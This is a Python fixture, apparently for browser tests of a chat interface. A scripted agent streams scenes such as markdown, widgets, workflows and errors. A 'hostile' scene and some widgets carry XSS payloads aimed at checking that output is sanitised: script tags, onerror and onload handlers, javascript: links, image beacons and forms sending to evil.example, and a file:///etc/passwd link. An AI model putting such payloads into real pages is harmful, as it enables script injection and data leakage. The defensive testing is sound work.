"""The agent of the browser tests: the first word of a message names a scene, and the scene plays through the service.

Texts come from a scripted model, word by word; all else (widgets, workflows, questions, …) is streamed by a tool.
"""

import asyncio
import base64
import json
from collections.abc import AsyncIterator, Awaitable, Callable
from datetime import UTC, datetime
from typing import Any

from agents import Agent, Model, RunContextWrapper, StopAtTools, function_tool
from agents.tool import FunctionTool
from chatkit.actions import Action
from chatkit.agents import AgentContext, ClientToolCall
from chatkit.errors import CustomStreamError
from chatkit.types import (
    Annotation,
    AssistantMessageContent,
    AssistantMessageItem,
    ClientEffectEvent,
    ClosedStatus,
    CustomSummary,
    CustomTask,
    EntitySource,
    FileSource,
    FileTask,
    GeneratedImage,
    GeneratedImageItem,
    GeneratedImageUpdated,
    ImageTask,
    LockedStatus,
    NoticeEvent,
    ProgressUpdateEvent,
    SearchTask,
    StructuredInputFreeform,
    StructuredInputItem,
    StructuredInputMultipleChoice,
    StructuredInputMultipleChoiceOption,
    SyncCustomActionResponse,
    TaskItem,
    ThoughtTask,
    ThreadItemAddedEvent,
    ThreadItemDoneEvent,
    ThreadItemReplacedEvent,
    ThreadItemUpdatedEvent,
    ThreadMetadata,
    URLSource,
    WidgetItem,
    Workflow,
)
from chatkit.widgets import DynamicWidgetRoot
from openai.types.responses import (
    Response,
    ResponseCompletedEvent,
    ResponseContentPartAddedEvent,
    ResponseContentPartDoneEvent,
    ResponseCreatedEvent,
    ResponseFunctionToolCall,
    ResponseOutputItemAddedEvent,
    ResponseOutputItemDoneEvent,
    ResponseOutputMessage,
    ResponseOutputText,
    ResponseTextDeltaEvent,
    ResponseTextDoneEvent,
)

Context = AgentContext[Any]
PIXEL = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
PICTURE = "data:image/png;base64," + base64.b64encode(PIXEL).decode()

# --- texts ------------------------------------------------------------------------------------------------------------

MARKDOWN = """\
# A heading

Some **bold**, *italic*, ~~struck~~ and `code` words, with a [link](https://example.org/page?a=1&b=2) &amp; more.

1. first
2. second
   - nested

- [x] done
- [ ] open

> A quotation.

| Name | Amount |
| :--- | ---: |
| Tea | 3 |
| Cake | 12 |

```python
print("hello <world>")
```

The end. See [the note].

[the note]: https://example.org/note
"""

HOSTILE = """\
<script>window.hacked = 1</script> and <img src=x onerror="window.hacked = 2">

<img src="https://evil.example/leak.png?secret">
<svg onload="window.hacked=3"><a xlink:href="javascript:window.hacked=4">x</a></svg>

[click me](javascript:window.hacked=5) [and me](JaVaScRiPt:window.hacked=6)
[data](data:text/html,<script>window.hacked=7</script>)
[vb](vbscript:msgbox) <javascript:window.hacked=8> [file](file:///etc/passwd) [rel](//evil.example/x)

![leak](https://evil.example/pixel.gif?q=secret) ![js](javascript:window.hacked=9) ![svg](data:text/html,hi)

<style>body { display: none }</style><iframe src="https://evil.example"></iframe><form action="https://evil.example"><input></form>

<div style="position:fixed;inset:0;background:red" onclick="window.hacked=10">cover</div> <base href="https://evil.example/">

`<b>` **unclosed *broken [link](http:// ![image]( | a | b
|--|
```html
<script>window.hacked = 11</script>
"""

STRANGE = (
    "\u202eright to left override\u202c and \u0645\u0631\u062d\u0628\u0627 \u05e9\u05dc\u05d5\u05dd"
    " z\u200be\u200bro\u200bwidth \ufeffbom \u2066isolate\u2069 " + "x" * 4000 + " &#0;&#xFFFFFFF;&#x110000; \u0000 end"
)


class Script(Model):
    """Says what the scene says; calls the stage for scenes that are more than text."""

    failed: set[str] = set()  # noqa: RUF012 - of the whole process, so that a scene can fail once

    async def get_response(self, system_instructions: str | None, input: Any, *args: Any, **kwargs: Any) -> Any:
        raise NotImplementedError  # only titles are asked for whole, and offline the model makes none

    async def stream_response(
        self, system_instructions: str | None, input: Any, *args: Any, **kwargs: Any
    ) -> AsyncIterator[Any]:
        words = last_words(input)
        scene, _, rest = words.partition(" ")
        if scene in STAGED or scene in CLIENT_TOOLS:
            async for event in call_events("stage" if scene in STAGED else scene, words):
                yield event
            return
        async for event in text_events(*self.text_of(scene, rest, words)):
            yield event

    def text_of(self, scene: str, rest: str, words: str) -> tuple[list[str], float]:
        """Return the deltas, and the seconds between them."""
        match scene:
            case "fail":
                raise CustomStreamError("The kettle is empty.", allow_retry=False)
            case "fail-once":
                if words not in self.failed:
                    self.failed.add(words)
                    raise CustomStreamError("The kettle was not on.", allow_retry=True)
                return ["It works now."], 0
            case "crash":
                raise RuntimeError("nobody may see this")
            case "markdown":
                return split(MARKDOWN), 0.002
            case "hostile":
                return split(HOSTILE), 0
            case "strange":
                return [STRANGE], 0
            case "long":
                return ["Lorem **ipsum** dolor `sit` amet. " * 20 + "\n\n" for _ in range(300)], 0.002
            case "deep":
                return ["> " * 3000 + "deep " + "[" * 3000 + "*" * 3000 + "\n\n", "- " * 3000, "after"], 0.01
            case "go":
                gone_on.set()
                return ["Gone on."], 0
            case "slow":
                return [f"word{number} " for number in range(int(rest or 3000))], 0.1
            case "deltas":
                return [f"word{number} " for number in range(int(rest))], 0.004
            case "tool-output":
                return split(f"The page says: `{rest}`"), 0
            case _:
                return split(rest if scene == "say" else f"You said: {words}"), 0.01


def split(text: str) -> list[str]:
    return [text[at : at + 8] for at in range(0, len(text), 8)]


def last_words(items: Any) -> str:
    last = items[-1]
    if last.get("type") == "function_call_output":
        return f"tool-output {last['output']}"
    content = last["content"]
    return content if isinstance(content, str) else " ".join(part.get("text", "") for part in content)


def response(output: list[Any]) -> Response:
    return Response(
        id="resp", object="response", created_at=0, model="script", output=output,
        parallel_tool_calls=False, tool_choice="auto", tools=[],
    )  # fmt: skip


async def text_events(deltas: list[str], seconds: float) -> AsyncIterator[Any]:
    part = ResponseOutputText(type="output_text", text="", annotations=[])
    message = ResponseOutputMessage(id="m", type="message", role="assistant", status="in_progress", content=[])
    at: dict[str, Any] = {"item_id": "m", "output_index": 0, "content_index": 0, "sequence_number": 0}
    yield ResponseCreatedEvent(type="response.created", response=response([]), sequence_number=0)
    yield ResponseOutputItemAddedEvent(
        type="response.output_item.added", item=message, output_index=0, sequence_number=0
    )
    yield ResponseContentPartAddedEvent(type="response.content_part.added", part=part, **at)
    text = ""
    for delta in deltas:
        await asyncio.sleep(seconds)
        text += delta
        yield ResponseTextDeltaEvent(type="response.output_text.delta", delta=delta, logprobs=[], **at)
    part = part.model_copy(update={"text": text})
    yield ResponseTextDoneEvent(type="response.output_text.done", text=text, logprobs=[], **at)
    yield ResponseContentPartDoneEvent(type="response.content_part.done", part=part, **at)
    done = message.model_copy(update={"content": [part], "status": "completed"})
    async for event in done_events(done):
        yield event


async def call_events(tool: str, words: str) -> AsyncIterator[Any]:
    call = ResponseFunctionToolCall(
        id="f", call_id=f"call_{datetime.now(UTC).timestamp()}", type="function_call", name=tool,
        arguments=json.dumps({"words": words}), status="completed",
    )  # fmt: skip
    yield ResponseCreatedEvent(type="response.created", response=response([]), sequence_number=0)
    yield ResponseOutputItemAddedEvent(type="response.output_item.added", item=call, output_index=0, sequence_number=0)
    async for event in done_events(call):
        yield event


async def done_events(item: Any) -> AsyncIterator[Any]:
    yield ResponseOutputItemDoneEvent(type="response.output_item.done", item=item, output_index=0, sequence_number=0)
    yield ResponseCompletedEvent(type="response.completed", response=response([item]), sequence_number=0)


# --- widgets ----------------------------------------------------------------------------------------------------------


def root(definition: dict[str, Any]) -> DynamicWidgetRoot:
    return DynamicWidgetRoot.model_validate(definition)


def go(kind: str, payload: Any = None, **more: Any) -> dict[str, Any]:
    return {"type": kind, "payload": payload, **more}


CARD = {
    "type": "Card",
    "status": {"text": "Delivery", "icon": "suitcase"},
    "children": [
        {
            "type": "Row",
            "children": [
                {"type": "Title", "value": "Two cups of tea", "size": "sm"},
                {"type": "Spacer"},
                {"type": "Badge", "label": "On its way", "color": "success", "pill": True},
            ],
        },
        {"type": "Text", "value": "Arrives at 16:30 at the side door.", "color": "secondary", "size": "sm"},
        {
            "type": "Chart",
            "xAxis": "day",
            "showYAxis": True,
            "showLegend": True,
            "series": [
                {"type": "bar", "dataKey": "black", "label": "Black tea"},
                {"type": "bar", "dataKey": "green", "label": "Green tea", "color": "green"},
            ],
            "data": [
                {"day": "Mon", "black": 4, "green": 2},
                {"day": "Tue", "black": 6, "green": 3},
                {"day": "Wed", "black": 3, "green": 5},
                {"day": "Thu", "black": 7, "green": 4},
                {"day": "Fri", "black": 8, "green": 6},
            ],
        },
        {"type": "Divider"},
        {
            "type": "Row",
            "justify": "end",
            "children": [
                {"type": "Button", "label": "Details", "onClickAction": go("echo", {"button": "details"})},
                {
                    "type": "Button",
                    "label": "Confirm",
                    "style": "primary",
                    "iconStart": "check",
                    "onClickAction": go("echo", {"button": "confirm"}),
                },
            ],
        },
    ],
}

BUTTONS = {
    "type": "Card",
    "children": [
        {"type": "Text", "value": "Press one", "id": "state"},
        {"type": "Button", "label": "Streamed", "onClickAction": go("echo", {"n": 1})},
        {"type": "Button", "label": "At once", "onClickAction": go("echo", {"n": 2}, streaming=False)},
        {
            "type": "Button",
            "label": "Container",
            "onClickAction": go("wait", {"n": 3}, loadingBehavior="container"),
        },
        {"type": "Button", "label": "Here", "onClickAction": go("set_theme", {"theme": "dark"}, handler="client")},
        {"type": "Button", "label": "Nowhere", "onClickAction": go("no_such_action", handler="client")},
        {"type": "Button", "label": "Unwanted", "onClickAction": go("refuse")},
    ],
    "confirm": {"label": "Yes", "action": go("echo", {"card": "confirmed"})},
    "cancel": {"label": "No", "action": go("echo", {"card": "cancelled"})},
}

FORM = {
    "type": "Card",
    "children": [
        {
            "type": "Form",
            "direction": "col",
            "onSubmitAction": go("echo", {"id": 7, "fixed": "kept"}),
            "children": [
                {"type": "Label", "value": "Your name", "fieldName": "person.name"},
                {"type": "Input", "name": "person.name", "required": True, "placeholder": "Name"},
                {"type": "Textarea", "name": "person.about", "placeholder": "About you"},
                {
                    "type": "Select",
                    "name": "drink",
                    "placeholder": "Choose a drink",
                    "options": [{"value": "tea", "label": "Tea"}, {"value": "coffee", "label": "Coffee"}],
                    "onChangeAction": go("changed", streaming=False),
                },
                {
                    "type": "RadioGroup",
                    "name": "size",
                    "ariaLabel": "Size",
                    "direction": "row",
                    "defaultValue": "s",
                    "options": [{"value": "s", "label": "Small"}, {"value": "l", "label": "Large"}],
                },
                {"type": "Checkbox", "name": "sugar", "label": "With sugar"},
                {"type": "DatePicker", "name": "when", "placeholder": "Day", "defaultValue": "2030-01-02T00:00:00Z"},
                {"type": "Text", "value": "A title", "editable": {"name": "title"}},
                {"type": "Input", "name": "fixed", "defaultValue": "from the field"},
                {"type": "Button", "label": "Order", "submit": True, "style": "primary"},
            ],
        }
    ],
}

AS_FORM = {
    "type": "Card",
    "asForm": True,
    "children": [{"type": "Input", "name": "mail", "inputType": "email", "required": True, "placeholder": "Mail"}],
    "confirm": {"label": "Send", "action": go("echo")},
}

LIST = {
    "type": "ListView",
    "limit": 2,
    "status": {"text": "Three results"},
    "children": [
        {
            "type": "ListViewItem",
            "onClickAction": go("echo", {"row": number}),
            "children": [{"type": "Icon", "name": "star"}, {"type": "Text", "value": f"Result {number}"}],
        }
        for number in (1, 2, 3)
    ],
}

CELL = {"type": "Table.Cell", "children": [{"type": "Text", "value": "In a cell"}]}
GALLERY = {
    "type": "Card",
    "size": "lg",
    "background": {"light": "gray-100", "dark": "gray-900"},
    "children": [
        {"type": "Title", "value": "All of them"},
        {"type": "Caption", "value": "A caption"},
        {"type": "Text", "value": "Struck out", "lineThrough": True, "color": "red-500", "maxLines": 1},
        {"type": "Markdown", "value": "Some **Markdown** <script>window.hacked = 12</script>"},
        {"type": "Divider", "flush": True},
        {"type": "Image", "src": PICTURE, "alt": "A dot", "size": 24},
        {"type": "Image", "src": "https://evil.example/x.png", "alt": "Far away"},
        {
            "type": "Box",
            "direction": "row",
            "gap": 2,
            "padding": {"x": 2, "top": 1},
            "border": {"size": 1, "style": "dashed"},
            "radius": "lg",
            "background": "url(https://evil.example/bg.png)",
            "children": [{"type": "Icon", "name": "lucide:mail", "size": "xl"}, {"type": "Badge", "label": "New"}],
        },
        {"type": "Transition", "children": {"type": "Text", "value": "In transition"}},
        {
            "type": "Chart",
            "data": [{"x": "a", "y": 1, "z": 3}, {"x": "b", "y": 2, "z": 1}],
            "series": [{"type": "line", "dataKey": "y"}, {"type": "area", "dataKey": "z", "label": "Z"}],
            "xAxis": {"dataKey": "x", "labels": {"a": "Alpha"}},
            "showLegend": True,
        },
        {"type": "Table", "children": [{"type": "Table.Row", "children": [CELL]}]},
    ],
}  # fmt: skip

ODD = {
    "type": "Card",
    "children": [
        {"type": "Hologram", "label": "A hologram", "children": [{"type": "Text", "value": "inside it"}]},
        {"type": "Chart", "data": "no data", "series": 5},
        {"type": "Select"},
        {"type": "Text", "value": {"not": "text"}, "color": {"light": 1}},
        {"type": "Image", "src": "javascript:window.hacked=13"},
        {"type": "Text", "value": "Still here"},
    ],
}

WIDGETS: dict[str, Any] = {
    "card": CARD,
    "buttons": BUTTONS,
    "form": FORM,
    "as-form": AS_FORM,
    "list": LIST,
    "gallery": GALLERY,
    "odd": ODD,
}


async def growing_widget() -> AsyncIterator[DynamicWidgetRoot]:
    words = "This text grows inside a widget."
    for end in range(0, len(words) + 4, 4):
        yield root({"type": "Card", "children": [{"type": "Text", "id": "t", "value": words[:end], "streaming": True}]})
        await asyncio.sleep(0.05)
    await until_told()
    yield root({"type": "Card", "children": [{"type": "Title", "value": "Finished"}]})


# --- scenes -----------------------------------------------------------------------------------------------------------

HELD = " held"
gone_on = asyncio.Event()


async def until_told(words: str = HELD) -> None:
    """Hold a scene whose words end so, until the test has seen enough and plays the scene "go"."""
    if words.endswith(HELD):
        await asyncio.wait_for(gone_on.wait(), 30)  # it may have been told already
        gone_on.clear()


def item_base(context: Context, kind: Any = "message") -> dict[str, Any]:
    return {"id": context.generate_id(kind), "thread_id": context.thread.id, "created_at": datetime.now(UTC)}


async def play_widget(context: Context, words: str) -> None:
    await context.stream_widget(root(WIDGETS[words.split()[0]]), copy_text="a widget")


async def play_growing(context: Context, words: str) -> None:
    await context.stream_widget(growing_widget())


async def play_workflow(context: Context, words: str) -> None:
    await context.start_workflow(Workflow(type="custom", tasks=[]))
    await context.add_workflow_task(CustomTask(title="Reading the menu", status_indicator="loading", icon="book-open"))
    await until_told(words)
    await context.update_workflow_task(
        CustomTask(title="Read the menu", content="It has *tea*.", status_indicator="complete"), 0
    )
    search = SearchTask(
        title_query="best tea",
        queries=["tea", "green tea"],
        sources=[URLSource(title="Tea site", url="https://tea.example/", attribution="tea.example")],
    )
    await context.add_workflow_task(search)
    await context.add_workflow_task(
        FileTask(title="Looked into files", sources=[FileSource(title="Menu", filename="menu.pdf")])
    )
    await context.add_workflow_task(ImageTask(title="Drew a picture"))
    await context.end_workflow(CustomSummary(title="Looked at everything"))


async def play_reasoning(context: Context, words: str) -> None:
    await context.start_workflow(Workflow(type="reasoning", tasks=[]))
    thought = ThoughtTask(title="About tea", content="Tea needs ")
    await context.add_workflow_task(thought)
    await until_told(words)
    thought.content += "hot water."
    await context.update_workflow_task(thought, 0)
    await until_told(words)
    await context.end_workflow()


async def play_sources(context: Context, words: str) -> None:
    sources: list[URLSource | FileSource | EntitySource] = [
        URLSource(title="A page", url="https://example.org/a", description="about a"),
        URLSource(title="A trap", url="javascript:window.hacked=14"),
        FileSource(title="A file", filename="report.pdf"),
        EntitySource(title="A thing", id="thing"),
    ]
    content = AssistantMessageContent(text="With sources.", annotations=[Annotation(source=each) for each in sources])
    await context.stream(ThreadItemDoneEvent(item=AssistantMessageItem(**item_base(context), content=[content])))


async def play_image(context: Context, words: str) -> None:
    url = words.removesuffix(HELD).partition(" ")[2] or PICTURE
    item = GeneratedImageItem(**item_base(context))
    await context.stream(ThreadItemAddedEvent(item=item))
    image = GeneratedImage(id="i", url=url)
    await context.stream(
        ThreadItemUpdatedEvent(item_id=item.id, update=GeneratedImageUpdated(image=image, progress=0.5))
    )
    await until_told(words)
    await context.stream(ThreadItemDoneEvent(item=item.model_copy(update={"image": image})))


async def play_progress(context: Context, words: str) -> None:
    await context.stream(ProgressUpdateEvent(text="Boiling water", icon="bolt"))
    await until_told(words)
    await play_task(context, words)


async def play_task(context: Context, words: str) -> None:
    await context.stream(
        ThreadItemDoneEvent(item=TaskItem(**item_base(context, "task"), task=CustomTask(title="Boiled water")))
    )


async def play_steps(context: Context, words: str) -> None:
    await play_task(context, words)
    await until_told(words)
    await play_task(context, words)


async def play_notice(context: Context, words: str) -> None:
    message = "You have **two** cups left. [Buy more](https://example.org/buy)"
    await context.stream(NoticeEvent(level="warning", title="Careful", message=message))
    await play_task(context, words)


async def play_effect(context: Context, words: str) -> None:
    await context.stream(ClientEffectEvent(name="set_theme", data={"theme": "dark"}))
    await play_task(context, words)


async def play_questions(context: Context, words: str) -> None:
    kinds = [StructuredInputMultipleChoiceOption(value=value) for value in ("green", "black")]
    extras = [StructuredInputMultipleChoiceOption(value=value) for value in ("milk", "sugar")]
    inputs: list[StructuredInputMultipleChoice | StructuredInputFreeform] = [
        StructuredInputMultipleChoice(id="kind", question="Which tea?", options=kinds),
        StructuredInputMultipleChoice(id="with", question="With what?", options=extras, multiple=True),
        StructuredInputFreeform(id="why", question="Why?", description="In a few words"),
    ]
    await context.stream(ThreadItemDoneEvent(item=StructuredInputItem(**item_base(context), inputs=inputs)))


async def play_lock(context: Context, words: str) -> None:
    context.thread.title = "Under review"
    context.thread.status = LockedStatus(reason="This conversation is under review.")


async def play_close(context: Context, words: str) -> None:
    context.thread.title = "Over"
    context.thread.status = ClosedStatus()


async def play_title(context: Context, words: str) -> None:
    context.thread.title = words.partition(" ")[2]


STAGED: dict[str, Callable[[Context, str], Awaitable[None]]] = {
    **dict.fromkeys(WIDGETS, play_widget),
    "growing": play_growing,
    "workflow": play_workflow,
    "reasoning": play_reasoning,
    "sources": play_sources,
    "image": play_image,
    "progress": play_progress,
    "steps": play_steps,
    "notice": play_notice,
    "effect": play_effect,
    "questions": play_questions,
    "lock": play_lock,
    "close": play_close,
    "title": play_title,
}
CLIENT_TOOLS: dict[str, dict[str, Any]] = {
    "get_local_time": {},
    "set_theme": {"theme": "dark"},
    "no_such_tool": {"x": 1},
}


@function_tool
async def stage(run: RunContextWrapper[Context], words: str) -> str:
    gone_on.clear()
    await STAGED[words.split()[0]](run.context, words)
    return "played"


def client_tool(name: str) -> FunctionTool:
    async def call(run: RunContextWrapper[Context], words: str) -> None:
        run.context.client_tool_call = ClientToolCall(name=name, arguments=CLIENT_TOOLS[name])

    return function_tool(call, name_override=name)


def create_agent(context: Any) -> Agent[Any]:
    names = ["stage", *CLIENT_TOOLS]
    return Agent(
        name="Stage",
        model=Script(),
        tools=[stage, *(client_tool(name) for name in CLIENT_TOOLS)],
        tool_use_behavior=StopAtTools(stop_at_tool_names=names),
    )


# --- actions ----------------------------------------------------------------------------------------------------------


def answered(sender: WidgetItem, action: Action[str, Any]) -> WidgetItem:
    said = f"{action.type}: {json.dumps(action.payload, sort_keys=True)}"
    widget = root({"type": "Card", "children": [{"type": "Text", "value": said}]})
    return sender.model_copy(update={"widget": widget})


async def handle_action(
    thread: ThreadMetadata, action: Action[str, Any], sender: WidgetItem | None, context: Context
) -> AsyncIterator[Any]:
    if action.type == "refuse":
        raise CustomStreamError("Not today.", allow_retry=False)
    if action.type == "wait":
        await until_told()
    assert sender is not None
    yield ThreadItemReplacedEvent(item=answered(sender, action))


async def handle_sync_action(
    thread: ThreadMetadata, action: Action[str, Any], sender: WidgetItem | None, context: Context
) -> SyncCustomActionResponse:
    assert sender is not None
    if action.type == "changed":
        return SyncCustomActionResponse()
    return SyncCustomActionResponse(updated_item=answered(sender, action))
